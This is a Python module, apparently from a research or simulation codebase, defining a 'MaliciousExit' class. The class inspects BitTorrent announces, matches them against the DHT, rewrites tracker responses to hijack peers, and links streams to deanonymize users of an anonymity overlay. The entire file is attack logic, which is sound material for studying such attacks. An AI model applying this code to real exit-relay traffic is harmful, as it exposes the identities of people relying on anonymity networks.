"""The instrumented exit: an in-order fold over everything its taps see."""

from __future__ import annotations

from typing import Optional

from ..btwire import Endpoint
from ..overlay import ExitObservation
from ..swarm import POPULAR_PORTS
from . import records
from .dht_match import DhtClient, DhtMatcher
from .domino import TrackerListMemory, domino_link
from .hijack import HijackAttack
from .inspect import IpFieldTally, inspect
from .records import DeanonRecord, StreamView


class MaliciousExit:
    """Runs inspection, hijacking and DHT matching on live exit traffic.

    Receives only :class:`ExitObservation` records (via :meth:`observe`, the
    tap callback), answers from a :class:`DhtClient`, and connections to its
    own listener (via ``hijack``).
    """

    def __init__(
        self,
        exit_ips,
        listener: Endpoint,
        dht: Optional[DhtClient] = None,
        inspection: bool = True,
        hijack: bool = True,
        dht_match: bool = True,
        hijack_exits: Optional[set] = None,
        hijack_ttl: int = 3600,
        excluded_ports=POPULAR_PORTS,
        abstain: bool = True,
        crawl_cache_ttl: int = 1800,
        keep_log: bool = True,
    ):
        self.exit_ips = frozenset(exit_ips)
        self.inspection = inspection
        self.hijack_enabled = hijack
        self.hijack_exits = hijack_exits
        self.hijack = HijackAttack(listener, self.exit_ips, ttl=hijack_ttl)
        self.matcher = None
        if dht_match and dht is not None:
            self.matcher = DhtMatcher(dht, self.exit_ips, excluded_ports, cache_ttl=crawl_cache_ttl,
                                      abstain=abstain)
        self.tally = IpFieldTally()
        self.memory = TrackerListMemory()
        self.views: dict[int, StreamView] = {}
        self.log: list[ExitObservation] = []
        self.keep_log = keep_log
        self._records: list[DeanonRecord] = []

    @property
    def listener(self) -> Endpoint:
        return self.hijack.listener

    @property
    def records(self) -> list[DeanonRecord]:
        return sorted(self._records + self.hijack.records,
                      key=lambda r: (r.time, r.method.value, sorted(r.supporting_streams)))

    def _emit(self, record: Optional[DeanonRecord]):
        if record is not None:
            self._records.append(record)

    def observe(self, obs: ExitObservation) -> Optional[bytes]:
        """Tap callback; may return a rewritten payload for to-client traffic."""
        if self.keep_log:
            self.log.append(obs)
        view = self.views.get(obs.stream_id)
        if view is None:
            view = self.views[obs.stream_id] = StreamView(
                obs.stream_id, obs.circuit_id, obs.destination, obs.time
            )
        if obs.opaque:
            return None
        kind, parsed = records.classify_payload(obs.payload, obs.direction, view)
        view.kinds.add(kind)
        if kind == records.ANNOUNCE:
            view.peer_id, view.infohash, view.listen_port = parsed.peer_id, parsed.infohash, parsed.port
            if self.inspection:
                self._emit(inspect(obs, self.exit_ips, parsed, self.tally))
            self._try_dht(view, obs)
        elif kind == records.HANDSHAKE:
            view.peer_id, view.infohash = parsed.peer_id, parsed.infohash
        elif kind == records.EXT_HANDSHAKE:
            view.listen_port = parsed.listen_port
            if self.inspection:
                self._emit(inspect(obs, self.exit_ips, parsed, self.tally, view.peer_id))
            self._try_dht(view, obs)
        elif kind == records.HTTP:
            view.http_host = parsed
        elif kind == records.ANNOUNCE_RESPONSE:
            return self._on_response(view, obs, parsed)
        return None

    def _try_dht(self, view: StreamView, obs: ExitObservation):
        if self.matcher is None or view.infohash is None or view.listen_port is None:
            return
        _, rec = self.matcher.dht_match(view.infohash, view.listen_port, obs.time, obs.stream_id, view.peer_id)
        self._emit(rec)

    def _on_response(self, view: StreamView, obs: ExitObservation, parsed) -> Optional[bytes]:
        hijacking = self.hijack_enabled and (
            self.hijack_exits is None or obs.exit_relay in self.hijack_exits
        )
        if not hijacking:
            self.memory.remember(obs.circuit_id, obs.time, parsed.peers)
            return None
        rewritten = self.hijack.hijack_rewrite(
            obs.payload, view.infohash, obs.circuit_id, obs.stream_id, obs.time, view.peer_id, parsed
        )
        self.memory.remember(obs.circuit_id, obs.time, self.hijack.rewrite(parsed).peers)
        return rewritten

    # listener protocol, delegated to the hijacker
    def on_connect(self, src, handshake, now) -> bool:
        return self.hijack.on_connect(src, handshake, now)

    def on_piece(self, src, infohash, piece, now):
        self.hijack.on_piece(src, infohash, piece, now)

    def link(self, window: int = 300, include_unverified: bool = False, on_conflict: str = "collect",
             use_peer_ids: bool = True, use_tracker_lists: bool = True):
        seeds = [r for r in self.records if include_unverified or r.verified]
        return domino_link(
            seeds, views=self.views, memory=self.memory, window=window,
            use_peer_ids=use_peer_ids, use_tracker_lists=use_tracker_lists, on_conflict=on_conflict,
        )
